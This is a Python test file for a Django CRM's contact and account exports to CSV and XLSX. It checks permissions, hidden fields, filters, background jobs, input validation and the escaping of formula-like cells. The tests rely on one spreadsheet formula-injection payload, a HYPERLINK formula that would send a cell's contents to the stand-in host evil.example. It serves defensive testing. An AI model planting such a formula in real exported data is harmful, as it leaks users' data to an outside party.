# ruff: noqa: F811 - the customer fixtures are imported by name and then used as arguments
"""Exports: the list's rows (as the user may see and export them) to CSV and XLSX, read back.

Rows come from restrict(view) and restrict(export); hidden fields never appear; a cell that starts
like a formula is escaped; large lists run as a job whose file only its user may download.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from python_calamine import CalamineWorkbook

from guanxi.core import exports
from guanxi.core.models import Job
from guanxi.customers.models import Account, Contact
from guanxi.identity.models import Role, User
from tests.customers.conftest import (  # noqa: F401 - fixtures
    Api,
    admin,
    english,
    grant,
    make_account,
    make_contact,
    make_user,
    other_rep,
    rep,
    sales_role,
    team_east,
    team_south,
)
from tests.factories import client_for, field_rule, tag

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def exporter_role(sales_role: Role) -> Role:
    grant(sales_role, "customers.contact", ("export",))
    grant(sales_role, "customers.account", ("export",))
    return sales_role


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes) -> list[list[Any]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), "no formula cells"
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0)
    return sheet.to_python()


def ui_export(client: Client, path: str, query: str = "", **data: str) -> Any:
    return client.post(reverse("ui:export", args=[path]), {"query": query, **data})


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_export_has_the_users_rows_only_and_escapes_formulas(
    rep: User, other_rep: User, exporter_role: Role, make_contact: Callable[..., Contact]
) -> None:
    mine = make_contact(by=rep, family_name=FORMULA, given_name="", title="+86 sales", emails=["a@example.com"])
    make_contact(by=rep, family_name="李", given_name="雷", phones=["138 0013 8000"])
    theirs = make_contact(by=other_rep, family_name="韩", given_name="梅梅", title="secret")
    response = ui_export(client_for(rep), "contacts", "ordering=display_name", format="csv", scope="all")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(body(response))
    header, data = rows[0], rows[1:]
    assert header[0] == "Record ID" and "Name" in header and "Owner" in header
    ids = {int(r[0]) for r in data}
    assert mine.pk in ids and theirs.pk not in ids and len(data) == 2
    row = next(r for r in data if int(r[0]) == mine.pk)
    cells = dict(zip(header, row, strict=True))
    assert cells["Name"] == "'" + FORMULA.strip()
    assert cells["Job title"] == "'+86 sales"
    assert cells["Emails"] == "a@example.com" and cells["Owner"] == str(rep)
    assert not any(c.startswith(("=", "+", "-", "@")) for r in data for c in r)
    assert "secret" not in body(response).decode("utf-8-sig")


def test_xlsx_export_reads_back_without_formulas_and_hides_hidden_fields(
    rep: User, exporter_role: Role, make_contact: Callable[..., Contact]
) -> None:
    contact = make_contact(by=rep, family_name=FORMULA, given_name="", title="top secret title", department="@ops")
    field_rule(exporter_role, "customers.contact", "title", "hidden")
    tag(contact, "vip")
    response = ui_export(client_for(rep), "contacts", "", format="xlsx", scope="all")
    assert response.status_code == 200
    rows = read_xlsx(response.content)
    header = rows[0]
    assert "Job title" not in header and "Tags" in header
    cells = dict(zip(header, rows[1], strict=True))
    assert cells["Name"] == "'" + FORMULA and cells["Department"] == "'@ops" and cells["Tags"] == "vip"
    assert int(cells["Record ID"]) == contact.pk
    assert b"top secret title" not in response.content
    # Asking for a hidden column by name is refused (API) and left out (UI).
    api = Api(rep)
    refused = api.post("exports", {"type": "contacts", "format": "xlsx", "columns": ["display_name", "title"]})
    assert refused.status_code == 400 and refused.json_body["errors"][0]["field"] == "columns"


def test_export_follows_the_lists_filters_search_sort_and_columns(
    admin: User, make_account: Callable[..., Account]
) -> None:
    for name, stage in (("北京甲", "customer"), ("上海乙", "prospect"), ("北京丙", "customer")):
        make_account(name=name, lifecycle_stage=stage, annual_revenue=1000)
    query = "lifecycle_stage=customer&search=北京&ordering=-name&columns=name,lifecycle_stage,owner&cursor=abc"
    response = ui_export(client_for(admin), "accounts", query, format="csv")
    rows = read_csv(body(response))
    assert rows[0] == ["Record ID", "Name", "Lifecycle stage", "Owner"]
    assert [r[1:] for r in rows[1:]] == [["北京甲", "Customer", str(admin)], ["北京丙", "Customer", str(admin)]]


def test_saved_view_export_uses_its_filters_and_columns(admin: User, make_account: Callable[..., Account]) -> None:
    from guanxi.core.models import SavedView

    make_account(name="甲", lifecycle_stage="customer")
    make_account(name="乙", lifecycle_stage="prospect")
    view = SavedView.objects.create(
        user=admin, object_type="customers.account", name="客户", query="lifecycle_stage=customer", columns=["name"]
    )
    rows = read_csv(body(ui_export(client_for(admin), "accounts", f"view={view.pk}", format="csv")))
    assert rows == [["Record ID", "Name"], [rows[1][0], "甲"]]


def test_headers_and_labels_in_the_users_language(admin: User, make_account: Callable[..., Account]) -> None:
    from django.utils import translation

    make_account(name="甲", lifecycle_stage="customer")
    client = client_for(admin)
    client.cookies["django_language"] = "zh-hans"
    response = client.post(
        reverse("ui:export", args=["accounts"]),
        {"query": "columns=name,lifecycle_stage", "format": "csv"},
        headers={"Accept-Language": "zh-hans"},
    )
    with translation.override("zh-hans"):
        name = str(Account._meta.get_field("name").verbose_name)
        stage = str(Account(lifecycle_stage="customer").get_lifecycle_stage_display())
    assert name != "Name" and stage != "Customer", "the zh-Hans catalogue translates these"
    rows = read_csv(body(response))
    assert rows[0][1] == name and rows[1][1:] == ["甲", stage]


def test_without_the_export_permission_there_is_no_button_and_403(
    rep: User, make_contact: Callable[..., Contact]
) -> None:
    make_contact(by=rep)
    client = client_for(rep)
    assert 'id="export-menu"' not in client.get(reverse("ui:contacts-list")).content.decode()
    assert ui_export(client, "contacts", format="csv").status_code == 403
    assert Api(rep).post("exports", {"type": "contacts", "format": "csv"}).status_code == 403


def test_large_export_runs_as_a_job_with_progress_and_a_private_file(
    rep: User,
    other_rep: User,
    exporter_role: Role,
    make_contact: Callable[..., Contact],
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    monkeypatch.setattr(exports, "SYNC_LIMIT", 3)
    monkeypatch.setattr(exports, "CHUNK", 2)
    for i in range(5):
        make_contact(by=rep, family_name="员工", given_name=str(i))
    make_contact(by=other_rep, family_name="别人")
    client = client_for(rep)
    assert 'id="export-menu"' in client.get(reverse("ui:contacts-list")).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = ui_export(client, "contacts", "ordering=display_name", format="xlsx")
    job = Job.objects.get(kind="export")
    assert response.status_code == 302 and response["Location"] == reverse("ui:job-detail", args=[job.pk])
    assert (job.status, job.processed, job.total, job.result["rows"]) == ("succeeded", 5, 5, 5)
    page = client.get(response["Location"]).content.decode()
    assert reverse("ui:job-file", args=[job.pk]) in page and "100%" in page
    rows = read_xlsx(body(client.get(reverse("ui:job-file", args=[job.pk]))))
    assert [r[1] for r in rows[1:]] == [f"员工{i}" for i in range(5)]
    assert client_for(other_rep).get(reverse("ui:job-file", args=[job.pk])).status_code == 404
    assert Api(other_rep).get(f"exports/{job.pk}/file").status_code == 404
    assert Api(other_rep).get(f"exports/{job.pk}").status_code == 404


def test_api_export_is_a_job_and_checks_its_input(
    rep: User, exporter_role: Role, make_contact: Callable[..., Contact], django_capture_on_commit_callbacks: Any
) -> None:
    make_contact(by=rep, family_name="张", given_name="三", title="CTO")
    make_contact(by=rep, family_name="李", given_name="四", title="CFO")
    api = Api(rep)
    with django_capture_on_commit_callbacks(execute=True):
        response = api.post(
            "exports", {"type": "contacts", "format": "csv", "query": {"title": "CTO"}, "columns": ["display_name"]}
        )
    assert response.status_code == 202, response.json_body
    job_id = response.json_body["id"]
    done = api.get(f"exports/{job_id}").json_body
    assert done["status"] == "succeeded" and done["file_url"] == f"/api/v1/exports/{job_id}/file"
    rows = read_csv(body(api.get(f"exports/{job_id}/file")))
    assert [r[1:] for r in rows] == [["Name"], ["张三"]]
    for bad, field in (
        ({"type": "contacts", "format": "pdf"}, "format"),
        ({"type": "nothing", "format": "csv"}, "type"),
        ({"type": "contacts", "query": {"bogus": "1"}}, "query.bogus"),
        ({"type": "contacts", "query": {"ordering": "wechat_id"}}, "query.ordering"),
    ):
        refused = api.post("exports", bad)
        assert refused.status_code == 400 and refused.json_body["errors"][0]["field"] == field, refused.json_body


def test_export_reads_in_keyset_chunks(
    admin: User, make_account: Callable[..., Account], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Queries grow with the number of chunks, never with the rows (no N+1); tags and relations
    cost one query per chunk."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from guanxi.core.registry import resource_at

    monkeypatch.setattr(exports, "CHUNK", 10)
    resource = resource_at("accounts")
    columns = exports.available_columns(resource, admin)

    def run() -> int:
        qs, ordering = exports.export_queryset(resource, admin, exports.query_dict({}), columns, strict=True)
        with CaptureQueriesContext(connection) as queries:
            exports.write_export(
                resource=resource, columns=columns, qs=qs, ordering=ordering, fmt="csv", out=io.BytesIO(), user=admin
            )
        return len(queries)

    for i in range(10):
        tag(make_account(name=f"A{i}"), "vip")
    ten = run()
    for i in range(10, 40):
        tag(make_account(name=f"A{i}"), "vip")
    forty = run()
    assert forty - ten <= 3 * 3, (ten, forty)  # three more chunks: the page, its tags and its relations


def test_ui_export_of_the_selected_rows_only(
    rep: User, other_rep: User, exporter_role: Role, make_contact: Callable[..., Contact]
) -> None:
    """Rows ticked on the list export alone, in the list's order, and only those the user may export."""
    picked = [make_contact(by=rep, family_name="选", given_name=str(i)) for i in range(3)]
    make_contact(by=rep, family_name="未选")
    theirs = make_contact(by=other_rep, family_name="别人")
    client = client_for(rep)
    page = client.get(reverse("ui:contacts-list")).content.decode()
    assert 'name="rows" value="selected"' in page and "data-export-rows-selected" in page
    ids = [str(picked[2].pk), str(picked[0].pk), str(theirs.pk)]
    response = ui_export(client, "contacts", "ordering=display_name", format="csv", rows="selected", ids=ids)
    rows = read_csv(body(response))
    assert [r[1] for r in rows[1:]] == ["选0", "选2"]
    # "rows=all" (the default) ignores stray ids: the whole list.
    everything = read_csv(body(ui_export(client, "contacts", "", format="csv", rows="all", ids=ids)))
    assert len(everything) - 1 == 4
    # "selected" with nothing ticked, or a bad id: a message on the list, no file.
    for bad, message in (([], "Select at least one record to export."), (["x"], "whole numbers")):
        refused = ui_export(client, "contacts", "", format="csv", rows="selected", ids=bad)
        assert refused.status_code == 302, refused
        assert message in client.get(refused["Location"]).content.decode()


def test_selected_rows_over_the_sync_limit_run_as_a_job(
    rep: User,
    exporter_role: Role,
    make_contact: Callable[..., Contact],
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    monkeypatch.setattr(exports, "SYNC_LIMIT", 2)
    contacts = [make_contact(by=rep, family_name="员工", given_name=str(i)) for i in range(5)]
    chosen = [str(c.pk) for c in contacts[1:4]]
    with django_capture_on_commit_callbacks(execute=True):
        response = ui_export(
            client_for(rep), "contacts", "ordering=display_name", format="csv", rows="selected", ids=chosen
        )
    job = Job.objects.get(kind="export")
    assert response.status_code == 302 and job.params["ids"] == [int(pk) for pk in chosen]
    assert (job.status, job.result["rows"]) == ("succeeded", 3)
    rows = read_csv(body(client_for(rep).get(reverse("ui:job-file", args=[job.pk]))))
    assert [r[1] for r in rows[1:]] == ["员工1", "员工2", "员工3"]


def test_api_export_of_given_ids(
    rep: User,
    other_rep: User,
    exporter_role: Role,
    make_contact: Callable[..., Contact],
    django_capture_on_commit_callbacks: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``ids`` narrows the query's list to those records; ids the user may not export are left out."""
    cto = make_contact(by=rep, family_name="张", given_name="三", title="CTO")
    cfo = make_contact(by=rep, family_name="李", given_name="四", title="CFO")
    make_contact(by=rep, family_name="王", given_name="五", title="CTO")
    theirs = make_contact(by=other_rep, family_name="韩", given_name="梅", title="CTO")
    api = Api(rep)
    with django_capture_on_commit_callbacks(execute=True):
        response = api.post(
            "exports",
            {
                "type": "contacts",
                "query": {"title": "CTO"},
                "ids": [cto.pk, cfo.pk, theirs.pk],
                "columns": ["display_name"],
            },
        )
    assert response.status_code == 202, response.json_body
    rows = read_csv(body(api.get(f"exports/{response.json_body['id']}/file")))
    assert [r[1:] for r in rows] == [["Name"], ["张三"]]
    monkeypatch.setattr(exports, "SELECTED_LIMIT", 2)
    for ids, message in (([], "Select at least one"), ([cto.pk, cfo.pk, theirs.pk], "at most 2")):
        refused = api.post("exports", {"type": "contacts", "ids": ids})
        assert refused.status_code == 400, refused.json_body
        error = refused.json_body["errors"][0]
        assert error["field"] == "ids" and message in error["detail"], error
    refused = api.post("exports", {"type": "contacts", "ids": ["abc"]})
    assert refused.status_code == 400 and refused.json_body["errors"][0]["field"] == "ids.0", refused.json_body
